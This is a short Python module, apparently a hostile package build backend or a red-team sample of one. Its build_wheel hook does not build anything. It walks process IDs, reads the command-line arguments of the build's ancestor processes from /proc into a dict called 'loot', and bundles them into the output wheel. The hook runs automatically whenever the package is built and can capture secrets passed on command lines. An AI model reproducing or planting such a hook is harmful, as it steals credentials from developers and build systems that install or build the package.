"""Reads the arguments of every process with a lower number, one file at a time.

Ancestors are older, so their numbers are lower; no directory has to be listed.
"""

import contextlib
import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("climb"):
        for pid in range(1, max(os.getpid(), kit.plant("shell").pid) + 1):
            with contextlib.suppress(OSError):  # no such process
                with open(f"/proc/{pid}/cmdline", "rb") as arguments:
                    loot[f"{pid}.bin"] = arguments.read()
    return kit.wheel(wheel_directory, loot)
